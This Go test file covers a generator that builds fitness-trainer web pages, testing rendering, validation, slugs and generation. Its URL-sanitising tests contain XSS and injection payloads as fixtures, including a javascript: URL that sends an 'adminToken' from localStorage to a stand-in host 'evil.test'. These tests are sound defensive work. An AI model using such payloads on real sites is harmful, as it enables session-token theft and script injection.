package site

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	pongo2 "github.com/flosch/pongo2/v6"
	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/uptrace/bun"

	"github.com/padraicbc/trainerpages/ai"
	"github.com/padraicbc/trainerpages/blob"
	"github.com/padraicbc/trainerpages/db"
	"github.com/padraicbc/trainerpages/models"
)

func fullSubmission() *models.Submission {
	return &models.Submission{
		ID:              uuid.New(),
		Slug:            "strong-with-sam",
		FullName:        "Sam Rivera",
		BusinessName:    "Strong With Sam",
		Email:           "sam@example.com",
		Phone:           "+1 555 0100",
		Location:        "Austin, TX",
		Instagram:       "@strongwithsam",
		LinktreeURL:     "https://linktr.ee/strongwithsam",
		WebsiteURL:      "https://strongwithsam.com",
		Bio:             "Coach for 10 years.\nFormer collegiate rower.",
		Tagline:         "Strength for everyday life",
		Specialties:     []string{"Strength", "Mobility"},
		Certifications:  []string{"NASM-CPT"},
		Programs:        []models.Program{{Title: "1:1 Coaching", Description: "Weekly sessions", Duration: "12 weeks", Price: "$300/mo"}},
		Testimonials:    []models.Testimonial{{Name: "Ana", Quote: "Best coach ever"}},
		ProfileImageURL: "https://cdn.example.com/sam.jpg",
		CoverImageURL:   "https://cdn.example.com/cover.jpg",
		GalleryURLs:     []string{"https://cdn.example.com/g1.jpg"},
		Features:        models.Features{OnlineCoaching: true, Booking: true},
		BrandColor:      "#ff6600",
		Status:          models.StatusApproved,
		AdminNotes:      "looks good",
	}
}

func TestFromSubmissionShape(t *testing.T) {
	s := fullSubmission()
	now := time.Date(2026, 10, 1, 12, 0, 0, 0, time.UTC)
	d := FromSubmission(s, now)

	assert.Equal(t, DocumentVersion, d.Version)
	assert.Equal(t, s.Slug, d.Slug)
	assert.Equal(t, s.FullName, d.Name)
	assert.Equal(t, s.BusinessName, d.BusinessName)
	assert.Equal(t, s.Tagline, d.Tagline)
	assert.Equal(t, s.Bio, d.Bio)
	assert.Equal(t, s.Location, d.Location)
	assert.Equal(t, Contact{
		Email: s.Email, Phone: s.Phone, Instagram: s.Instagram, Website: s.WebsiteURL, Linktree: s.LinktreeURL,
	}, d.Contact)
	assert.Equal(t, s.Specialties, d.Specialties)
	assert.Equal(t, s.Certifications, d.Certifications)
	assert.Equal(t, s.Programs, d.Programs)
	assert.Equal(t, s.Testimonials, d.Testimonials)
	assert.Equal(t, Media{ProfileImage: s.ProfileImageURL, CoverImage: s.CoverImageURL, Gallery: s.GalleryURLs}, d.Media)
	assert.Equal(t, s.Features, d.Features)
	assert.Equal(t, s.BrandColor, d.BrandColor)
	assert.Equal(t, now, d.GeneratedAt)

	raw, err := json.Marshal(d)
	require.NoError(t, err)
	assert.NotContains(t, string(raw), "looks good")
	assert.NotContains(t, string(raw), "approved")
}

func TestFromSubmissionEmptyListsAreArrays(t *testing.T) {
	s := &models.Submission{Slug: "jo", FullName: "Jo", Email: "jo@example.com", Bio: "Hi"}
	raw, err := Marshal(FromSubmission(s, time.Now()))
	require.NoError(t, err)

	var m map[string]any
	require.NoError(t, json.Unmarshal(raw, &m))
	assert.Equal(t, []any{}, m["programs"])
	assert.Equal(t, []any{}, m["specialties"])
	assert.Equal(t, []any{}, m["media"].(map[string]any)["gallery"])
}

func TestValidateRejectsIncompleteDocuments(t *testing.T) {
	d := FromSubmission(fullSubmission(), time.Now())
	_, err := Marshal(d)
	require.NoError(t, err)

	noBio := *d
	noBio.Bio = ""
	_, err = Marshal(&noBio)
	assert.ErrorContains(t, err, "validation")

	badSlug := *d
	badSlug.Slug = "Not A Slug"
	_, err = Marshal(&badSlug)
	assert.Error(t, err)

	assert.Error(t, Validate([]byte(`{"version":2}`)))
	assert.Error(t, Validate([]byte(`not json`)))
}

func TestRender(t *testing.T) {
	r, err := NewRenderer()
	require.NoError(t, err)

	s := fullSubmission()
	s.Bio = "Coach <script>alert(1)</script>"
	page, err := r.Render(FromSubmission(s, time.Now()))
	require.NoError(t, err)
	html := string(page)

	assert.Contains(t, html, "<h1>Strong With Sam</h1>")
	assert.Contains(t, html, "--brand: #ff6600;")
	assert.Contains(t, html, "1:1 Coaching")
	assert.Contains(t, html, "12 weeks")
	assert.Contains(t, html, "Best coach ever")
	assert.Contains(t, html, `href="https://instagram.com/strongwithsam"`)
	assert.Contains(t, html, "@strongwithsam")
	assert.Contains(t, html, "Book a session")
	assert.Contains(t, html, "Online coaching")
	assert.NotContains(t, html, "In-person sessions")
	assert.NotContains(t, html, "<script>alert(1)</script>")
}

func TestRenderFallsBackToDefaultColor(t *testing.T) {
	r, err := NewRenderer()
	require.NoError(t, err)
	s := fullSubmission()
	s.BrandColor = "red; background: url(x)"
	page, err := r.Render(FromSubmission(s, time.Now()))
	require.NoError(t, err)
	assert.Contains(t, string(page), "--brand: "+defaultBrandColor+";")
}

func TestRenderDropsUnsafeURLs(t *testing.T) {
	r, err := NewRenderer()
	require.NoError(t, err)

	page, err := r.Render(FromSubmission(fullSubmission(), time.Now()))
	require.NoError(t, err)
	assert.Contains(t, string(page), `href="https://strongwithsam.com"`)
	assert.Contains(t, string(page), `<img class="cover" src="https://cdn.example.com/cover.jpg"`)

	s := fullSubmission()
	s.WebsiteURL = "javascript:fetch('//evil.test/?t='+localStorage.getItem('adminToken'))"
	s.LinktreeURL = "JavaScript:alert(1)"
	s.ProfileImageURL = "data:image/svg+xml,<svg onload=alert(1)>"
	s.CoverImageURL = "https://x.test/a.jpg') ; background: url('//evil.test"
	s.GalleryURLs = []string{"//evil.test/g.jpg", "https://cdn.example.com/ok.jpg"}
	page, err = r.Render(FromSubmission(s, time.Now()))
	require.NoError(t, err)
	html := string(page)

	assert.NotContains(t, html, "javascript:")
	assert.NotContains(t, html, "JavaScript:")
	assert.NotContains(t, html, "data:image")
	assert.NotContains(t, html, "//evil.test/g.jpg")
	assert.NotContains(t, html, "background: url(")
	assert.NotContains(t, html, ">Website<")
	assert.Contains(t, html, `src="https://cdn.example.com/ok.jpg"`)
}

func TestSafeURL(t *testing.T) {
	assert.Equal(t, "https://sam.fit/about", safeURL(" https://sam.fit/about "))
	assert.Equal(t, "http://sam.fit", safeURL("http://sam.fit"))
	for _, in := range []string{"", "javascript:alert(1)", "mailto:sam@sam.fit", "//sam.fit", "sam.fit", "https://"} {
		assert.Empty(t, safeURL(in), in)
	}
}

func TestInstagramHandle(t *testing.T) {
	for _, in := range []string{"@sam", "sam", "https://www.instagram.com/sam/", "instagram.com/sam?hl=en"} {
		assert.Equal(t, "sam", instagramHandle(in), in)
	}
}

func TestSlugify(t *testing.T) {
	cases := map[string]string{
		"Sam Rivera":             "sam-rivera",
		"  Strong  With -- Sam ": "strong-with-sam",
		"José Núñez Fitness":     "jose-nunez-fitness",
		"Fit & Fab 24/7!":        "fit-fab-24-7",
		"!!!":                    "",
	}
	for in, want := range cases {
		assert.Equal(t, want, Slugify(in), in)
	}
	assert.LessOrEqual(t, len(Slugify(strings.Repeat("abc ", 40))), maxSlugLen)
	assert.False(t, strings.HasSuffix(Slugify(strings.Repeat("abc ", 40)), "-"))

	assert.Equal(t, "sam", WithSuffix("sam", 1))
	assert.Equal(t, "sam-3", WithSuffix("sam", 3))
}

type fakeRewriter struct {
	out ai.Content
	err error
}

func (f *fakeRewriter) Rewrite(_ context.Context, c ai.Content) (ai.Content, error) {
	if f.err != nil {
		return ai.Content{}, f.err
	}
	return f.out, nil
}

type failingBlob struct{ blob.Store }

func (failingBlob) Put(context.Context, string, []byte, string) (string, error) {
	return "", errors.New("bucket unavailable")
}

func newGenerator(t *testing.T) (*Generator, *bun.DB, *blob.FilesystemStore) {
	t.Helper()
	ctx := context.Background()
	bdb, err := db.Open("file:"+t.Name()+"?mode=memory&cache=shared", false)
	require.NoError(t, err)
	t.Cleanup(func() { _ = bdb.Close() })
	require.NoError(t, db.CreateTables(ctx, bdb))

	store, err := blob.NewFilesystemStore(t.TempDir(), "http://files.test")
	require.NoError(t, err)
	r, err := NewRenderer()
	require.NoError(t, err)

	fixed := time.Date(2026, 10, 2, 9, 30, 0, 0, time.UTC)
	return &Generator{DB: bdb, Blob: store, Renderer: r, Now: func() time.Time { return fixed }}, bdb, store
}

func TestGenerate(t *testing.T) {
	ctx := context.Background()
	g, bdb, store := newGenerator(t)

	s := fullSubmission()
	_, err := bdb.NewInsert().Model(s).Exec(ctx)
	require.NoError(t, err)

	res, err := g.Generate(ctx, s.ID, false)
	require.NoError(t, err)
	assert.Equal(t, "http://files.test/trainers/strong-with-sam.json", res.DocumentURL)
	assert.Equal(t, "http://files.test/trainers/strong-with-sam/index.html", res.SiteURL)

	raw, err := store.Get(ctx, blob.DocumentKey(s.Slug))
	require.NoError(t, err)
	var stored Document
	require.NoError(t, json.Unmarshal(raw, &stored))
	assert.Equal(t, s.Bio, stored.Bio)
	assert.Equal(t, s.Programs, stored.Programs)

	page, err := store.Get(ctx, blob.SiteKey(s.Slug))
	require.NoError(t, err)
	assert.Contains(t, string(page), "Strong With Sam")

	got := new(models.Submission)
	require.NoError(t, bdb.NewSelect().Model(got).Where("id = ?", s.ID).Scan(ctx))
	assert.Equal(t, models.StatusGenerated, got.Status)
	assert.Equal(t, res.DocumentURL, got.DocumentURL)
	require.NotNil(t, got.GeneratedAt)
	assert.False(t, got.AIEnhanced)

	// row and stored document agree after a round trip through the database
	assert.Equal(t, FromSubmission(got, stored.GeneratedAt), &stored)

	// regenerating an already generated submission is allowed
	_, err = g.Generate(ctx, s.ID, false)
	require.NoError(t, err)
}

func TestGenerateWithRewrite(t *testing.T) {
	ctx := context.Background()
	g, bdb, _ := newGenerator(t)

	s := fullSubmission()
	_, err := bdb.NewInsert().Model(s).Exec(ctx)
	require.NoError(t, err)

	_, err = g.Generate(ctx, s.ID, true)
	assert.ErrorIs(t, err, ErrRewriteDisabled)

	g.Rewriter = &fakeRewriter{err: errors.New("model overloaded")}
	_, err = g.Generate(ctx, s.ID, true)
	var se *StageError
	require.ErrorAs(t, err, &se)
	assert.Equal(t, StageRewrite, se.Stage)

	rewritten := []models.Program{{Title: "1:1 Coaching", Description: "Weekly one-on-one sessions.", Duration: "12 weeks", Price: "$300/mo"}}
	g.Rewriter = &fakeRewriter{out: ai.Content{Bio: "Polished bio.", Tagline: "Polished tagline", Programs: rewritten}}
	res, err := g.Generate(ctx, s.ID, true)
	require.NoError(t, err)
	assert.Equal(t, "Polished bio.", res.Document.Bio)

	got := new(models.Submission)
	require.NoError(t, bdb.NewSelect().Model(got).Where("id = ?", s.ID).Scan(ctx))
	assert.True(t, got.AIEnhanced)
	assert.Equal(t, "Polished bio.", got.Bio)
	assert.Equal(t, "Polished tagline", got.Tagline)
	assert.Equal(t, rewritten, got.Programs)
}

func TestGenerateRequiresApproval(t *testing.T) {
	ctx := context.Background()
	g, bdb, _ := newGenerator(t)

	s := fullSubmission()
	s.Status = models.StatusPending
	_, err := bdb.NewInsert().Model(s).Exec(ctx)
	require.NoError(t, err)

	_, err = g.Generate(ctx, s.ID, false)
	assert.ErrorIs(t, err, ErrNotGeneratable)

	_, err = g.Generate(ctx, uuid.New(), false)
	assert.Error(t, err)
}

func TestGenerateUploadFailureLeavesRowUntouched(t *testing.T) {
	ctx := context.Background()
	g, bdb, _ := newGenerator(t)
	g.Blob = failingBlob{}

	s := fullSubmission()
	_, err := bdb.NewInsert().Model(s).Exec(ctx)
	require.NoError(t, err)

	_, err = g.Generate(ctx, s.ID, false)
	var se *StageError
	require.ErrorAs(t, err, &se)
	assert.Equal(t, StageUpload, se.Stage)

	got := new(models.Submission)
	require.NoError(t, bdb.NewSelect().Model(got).Where("id = ?", s.ID).Scan(ctx))
	assert.Equal(t, models.StatusApproved, got.Status)
	assert.Empty(t, got.DocumentURL)
}

func TestParagraphsFilter(t *testing.T) {
	out, err := filterParagraphs(pongo2.AsValue("Line one\nline two\n\n<b>Second</b>"), nil)
	require.Nil(t, err)
	assert.Equal(t, "<p>Line one<br>line two</p><p>&lt;b&gt;Second&lt;/b&gt;</p>", out.String())
	assert.True(t, out.IsSafe())
}
